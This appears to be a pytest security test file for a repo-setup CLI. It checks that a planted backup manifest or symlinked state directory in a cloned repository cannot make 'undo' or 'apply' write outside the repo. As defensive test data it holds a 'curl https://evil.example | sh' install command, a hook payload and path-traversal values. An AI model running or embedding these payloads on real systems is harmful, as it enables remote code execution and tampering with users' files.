"""The repo's own `.spectro-wizard/` is not trusted: a cloned repo can carry it.

A planted manifest must never make `undo` write outside the repo, copy an arbitrary file into the
repo, run or print a command of its choosing, or crash; a planted `lock`, `.gitignore`, `backups`
or the state directory itself as a symlink (or a file) must never send a write elsewhere.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.security.conftest import PROMPT, Target
from tests.support.cli import assert_clear_error
from tests.support.files import snapshot

STAMP = "20991231T235959000000Z"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plant(root: Path, entries: list[dict[str, Any]] | Any, copies: dict[str, bytes] | None = None,
          **top: Any) -> Path:
    """A backup set as a cloned repo could carry it: `.spectro-wizard/backups/<STAMP>/manifest.json`."""
    d = root / ".spectro-wizard" / "backups" / STAMP
    (d / "files").mkdir(parents=True)
    for name, data in (copies or {}).items():
        (d / name).write_bytes(data)
    manifest = {"tool": "spectro-wizard 0.1.0", "created": "2099-12-31T23:59:59+00:00", "status": "applied",
                "actions": ["planted"], "files": entries, **top}
    (d / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return d


def entry_for(root: Path, rel: str, backup_bytes: bytes, **over: Any) -> dict[str, Any]:
    """An entry that passes the "changed since the apply" check: sha256After is the file's bytes now."""
    now = (root / rel).read_bytes() if (root / rel).exists() else b""
    e = {"path": rel, "backup": "files/00-x", "mode": 0o644, "sha256Before": _sha(backup_bytes),
         "sha256After": _sha(now), "planned": True, "byInstall": False}
    e.update(over)
    return e


def assert_undo_refused(t: Target, *needles: str, code: int = 2) -> str:
    repo_before, victim_before = snapshot(t.root), t.victim_state()
    proc = t.cli("undo", "--repo", str(t.root), "--yes")
    assert proc.returncode == code, proc.stderr
    err = assert_clear_error(proc.stderr, *needles)
    assert t.victim_state() == victim_before, "undo wrote outside the repo"
    assert snapshot(t.root) == repo_before, "undo wrote in the repo although it refused"
    assert proc.elapsed < PROMPT
    return err


# ------------------------------------------------------------------------------------------------
# planted manifests: every path resolved and kept inside the repo (and each backup inside its set)


def test_a_legacy_realpath_outside_the_repo_is_never_written(target: Target) -> None:
    """The attack found on main: `realPath` pointed at a file outside, undo overwrote it (and chmod-ed
    it 0755) while printing "restored app-config.yaml". The manifest's path alone names the file now."""
    t = target
    victim = t.victim / "precious.txt"
    payload = b"attacker's bytes\n"
    # sha256After is the victim's: main compared it with the file at realPath, found it "unchanged
    # since the apply" and overwrote it
    e = entry_for(t.root, "app-config.yaml", payload, realPath=str(victim), mode=0o755,
                  sha256After=_sha(victim.read_bytes()))
    plant(t.root, [e], {"files/00-x": payload})
    victim_before = t.victim_state()
    proc = t.cli("undo", "--repo", str(t.root), "--yes")
    assert t.victim_state() == victim_before, "undo wrote outside the repo"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o640
    assert proc.returncode == 1 and "app-config.yaml changed after the apply" in proc.stderr, proc.stderr
    # with the repo file's own sha, the planted set restores inside the repo what it names, and never
    # with the manifest's execute bits
    e["sha256After"] = _sha((t.root / "app-config.yaml").read_bytes())
    (t.root / ".spectro-wizard/backups" / STAMP / "manifest.json").write_text(
        json.dumps({"status": "applied", "created": "x", "actions": [], "files": [e]}), encoding="utf-8")
    proc = t.cli("undo", "--repo", str(t.root), "--yes")
    assert proc.returncode == 0 and "restored app-config.yaml" in proc.stdout, proc.stderr
    assert t.victim_state() == victim_before
    assert stat.S_IMODE((t.root / "app-config.yaml").stat().st_mode) & 0o111 == 0


@pytest.mark.parametrize("path", ["../victim/precious.yaml", "/tmp/precious.yaml", "sub/../../victim/precious.yaml"])
def test_a_path_outside_the_repo_is_refused(target: Target, path: str) -> None:
    t = target
    (t.victim / "precious.yaml").write_text("mine: true\n", encoding="utf-8")
    plant(t.root, [{"path": path, "backup": "files/00-x", "mode": 0o644, "sha256Before": _sha(b"x"),
                    "sha256After": None, "planned": True}], {"files/00-x": b"x"})
    assert_undo_refused(t, "manifest.json", "not a file of the repo")


def test_a_path_through_a_symlinked_directory_is_refused(target: Target) -> None:
    t = target
    (t.victim / "precious.yaml").write_text("mine: true\n", encoding="utf-8")
    os.symlink(t.victim, t.root / "escape")
    plant(t.root, [entry_for(t.root, "escape/precious.yaml", b"x")], {"files/00-x": b"x"})
    assert_undo_refused(t, "manifest.json", "outside the repo")


@pytest.mark.parametrize("path", [".git/hooks/post-checkout", "bin/run.sh", ".spectro-wizard/lock", "node_modules/x/index.js"])
def test_a_file_an_apply_never_writes_is_refused(target: Target, path: str) -> None:
    """A hook would run the attacker's code at the next git checkout: undo writes only the kinds of
    files an apply writes (configs, package.json, lockfiles, TypeScript sources)."""
    t = target
    (t.root / path).parent.mkdir(parents=True, exist_ok=True)
    plant(t.root, [entry_for(t.root, path, b"#!/bin/sh\ntouch pwned\n")], {"files/00-x": b"#!/bin/sh\ntouch pwned\n"})
    assert_undo_refused(t, "manifest.json")
    assert not (t.root / path).exists() or b"pwned" not in (t.root / path).read_bytes()


@pytest.mark.parametrize("backup", ["/etc/hostname", "../../../victim/precious.txt", "files/../../x", "manifest.json"])
def test_a_backup_outside_its_set_is_refused(target: Target, backup: str) -> None:
    """An absolute `backup` was copied into app-config.yaml on main."""
    t = target
    plant(t.root, [entry_for(t.root, "app-config.yaml", b"x", backup=backup)])
    assert_undo_refused(t, "manifest.json", "backup")


def test_a_backup_that_is_a_symlink_is_refused(target: Target) -> None:
    t = target
    d = plant(t.root, [entry_for(t.root, "app-config.yaml", (t.victim / "precious.txt").read_bytes())])
    os.symlink(t.victim / "precious.txt", d / "files" / "00-x")
    assert_undo_refused(t, "manifest.json", "not a regular file")


def test_a_damaged_backup_restores_nothing(target: Target) -> None:
    t = target
    plant(t.root, [entry_for(t.root, "app-config.yaml", b"what the manifest promises")], {"files/00-x": b"other bytes"})
    assert_undo_refused(t, "damaged", code=1)


MALFORMED: list[tuple[str, Any]] = [
    ("files is a string", "app-config.yaml"),
    ("an entry without path", [{"backup": "files/00-x", "mode": 420, "sha256Before": "0" * 64}]),
    ("an entry that is a list", [["app-config.yaml"]]),
    ("mode as a string", [{"path": "app-config.yaml", "backup": "files/00-x", "mode": "0755", "sha256Before": "0" * 64}]),
    ("mode out of range", [{"path": "app-config.yaml", "backup": "files/00-x", "mode": 1 << 20, "sha256Before": "0" * 64}]),
    ("sha256 not hex", [{"path": "app-config.yaml", "backup": "files/00-x", "mode": 420, "sha256Before": "zz"}]),
    ("path is a number", [{"path": 7, "backup": "files/00-x", "mode": 420, "sha256Before": "0" * 64}]),
    ("the same file twice", [{"path": "app-config.yaml", "backup": "files/00-x", "mode": 420, "sha256Before": "0" * 64}] * 2),
    ("a lockfile 'created' that is a config", [{"path": "app-config.yaml", "backup": None, "mode": 420,
                                                 "sha256Before": None, "createdByApply": True}]),
    # a deployment's manifest an apply creates is named with "spectrocloud": no other YAML file can be
    # recorded as created (undo would delete it)
    ("a values file 'created'", [{"path": "deploy/values.yaml", "backup": None, "mode": 420,
                                  "sha256Before": None, "createdByApply": True}]),
    ("an app-config named like the wizard's manifest 'created'", [{
        "path": "app-config.spectrocloud.yaml", "backup": None, "mode": 420, "sha256Before": None,
        "createdByApply": True}]),
]


@pytest.mark.parametrize("label,files", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_a_manifest_that_does_not_validate_is_one_sentence_and_exit_2(target: Target, label: str, files: Any) -> None:
    t = target
    plant(t.root, files, {"files/00-x": b"x"})
    assert_undo_refused(t, "manifest.json", "does not validate")


@pytest.mark.parametrize("label,text", [
    ("not JSON", b"{not json"),
    ("a JSON list", b"[1, 2]"),
    ("deeply nested", b"[" * 100_000 + b"]" * 100_000),
    ("an unknown status", json.dumps({"status": "pwned", "files": []}).encode()),
    ("bigger than a manifest can be", b'{"files": [], "pad": "' + b"x" * (2 << 20) + b'"}'),
], ids=["not-json", "json-list", "deeply-nested", "unknown-status", "too-big"])
def test_unreadable_manifests_are_refused(target: Target, label: str, text: bytes) -> None:
    t = target
    d = plant(t.root, [])
    (d / "manifest.json").write_bytes(text)
    assert_undo_refused(t, "manifest.json")


def test_a_manifest_fifo_or_symlink_is_refused_without_blocking(target: Target) -> None:
    t = target
    d = plant(t.root, [])
    (d / "manifest.json").unlink()
    os.mkfifo(d / "manifest.json")
    assert_undo_refused(t, "manifest.json", "FIFO")
    (d / "manifest.json").unlink()
    (t.victim / "m.json").write_text(json.dumps({"status": "applied", "files": []}), encoding="utf-8")
    os.symlink(t.victim / "m.json", d / "manifest.json")
    assert_undo_refused(t, "manifest.json", "symbolic link")


def test_a_planted_install_command_is_never_printed(target: Target) -> None:
    """undo tells the user which command brings node_modules in line: a manifest must not choose it."""
    t = target
    e = entry_for(t.root, "package.json", b"{}\n", byInstall=True)
    plant(t.root, [e], {"files/00-x": b"{}\n"}, install={"sync": "curl https://evil.example | sh"})
    err = assert_undo_refused(t, "manifest.json", "install.sync")
    assert "evil.example" not in err.replace("'curl https://evil.example | sh'", "")  # named only as the bad value


def test_a_real_apply_is_still_undone_exactly(target: Target) -> None:
    """The validation accepts what the wizard itself writes (a regression guard for the rules above)."""
    t = target
    before = snapshot(t.root)
    assert t.cli("apply", "--repo", str(t.root), "--answers", str(t.answers), "--yes", "--skip-install").returncode == 0
    proc = t.cli("undo", "--repo", str(t.root), "--yes")
    assert proc.returncode == 0, proc.stderr
    after = snapshot(t.root)
    assert {k: v for k, v in after.items() if not k.startswith(".spectro-wizard/")} == before


# ------------------------------------------------------------------------------------------------
# the state directory and its files are never followed as symlinks


def assert_apply_refused(t: Target, *needles: str, code: int = 2) -> None:
    victim_before = t.victim_state()
    cfg = (t.root / "app-config.yaml").read_bytes()
    proc = t.cli("apply", "--repo", str(t.root), "--answers", str(t.answers), "--yes", "--skip-install")
    assert proc.returncode == code, proc.stderr
    assert_clear_error(proc.stderr, *needles)
    assert t.victim_state() == victim_before, "apply wrote outside the repo"
    assert (t.root / "app-config.yaml").read_bytes() == cfg, "apply wrote the config although it refused"


def test_a_lock_symlinked_outside_is_not_truncated(target: Target) -> None:
    t = target
    (t.root / ".spectro-wizard").mkdir()
    os.symlink(t.victim / "precious.txt", t.root / ".spectro-wizard" / "lock")
    assert_apply_refused(t, "lock", "symbolic link")


def test_a_lock_hard_linked_to_another_file_is_not_truncated(target: Target) -> None:
    t = target
    (t.root / ".spectro-wizard").mkdir()
    os.link(t.victim / "precious.txt", t.root / ".spectro-wizard" / "lock")
    assert_apply_refused(t, "lock", "hard link")


def test_a_dangling_gitignore_symlink_creates_nothing_outside(target: Target) -> None:
    t = target
    (t.root / ".spectro-wizard").mkdir()
    os.symlink(t.victim / "created-by-the-wizard", t.root / ".spectro-wizard" / ".gitignore")
    victim_before = t.victim_state()
    proc = t.cli("apply", "--repo", str(t.root), "--answers", str(t.answers), "--yes", "--skip-install")
    assert proc.returncode == 0, proc.stderr
    assert t.victim_state() == victim_before and not (t.victim / "created-by-the-wizard").exists()
    ignore = t.root / ".spectro-wizard" / ".gitignore"
    assert not ignore.is_symlink() and "*" in ignore.read_text(encoding="utf-8").splitlines()


def test_the_state_directory_as_a_symlink_is_refused(target: Target) -> None:
    t = target
    os.symlink(t.victim, t.root / ".spectro-wizard")
    assert_apply_refused(t, ".spectro-wizard", "symbolic link")
    assert sorted(p.name for p in t.victim.iterdir()) == ["precious.txt"]
    proc = t.cli("undo", "--repo", str(t.root), "--yes")
    assert proc.returncode == 2 and ".spectro-wizard" in proc.stderr


def test_backups_as_a_symlink_is_refused(target: Target) -> None:
    t = target
    (t.root / ".spectro-wizard").mkdir()
    os.symlink(t.victim, t.root / ".spectro-wizard" / "backups")
    assert_apply_refused(t, "backups", "symbolic link")
    assert sorted(p.name for p in t.victim.iterdir()) == ["precious.txt"]


def test_a_file_named_spectro_wizard_is_named(target: Target) -> None:
    t = target
    (t.root / ".spectro-wizard").write_text("not a directory\n", encoding="utf-8")
    assert_apply_refused(t, ".spectro-wizard", "a file, not the wizard's state directory")


def test_saved_answers_are_never_read_through_a_symlink(target: Target) -> None:
    """Resume reads `.spectro-wizard/answers.yaml`: a link to a file elsewhere is not followed."""
    from wizard.session import Session

    t = target
    (t.root / ".spectro-wizard").mkdir()
    (t.victim / "answers.yaml").write_text("tenant: from-elsewhere\n", encoding="utf-8")
    os.symlink(t.victim / "answers.yaml", t.root / ".spectro-wizard" / "answers.yaml")
    s = Session(t.root)
    assert s.resume() is False
    assert s.answers.tenant != "from-elsewhere"
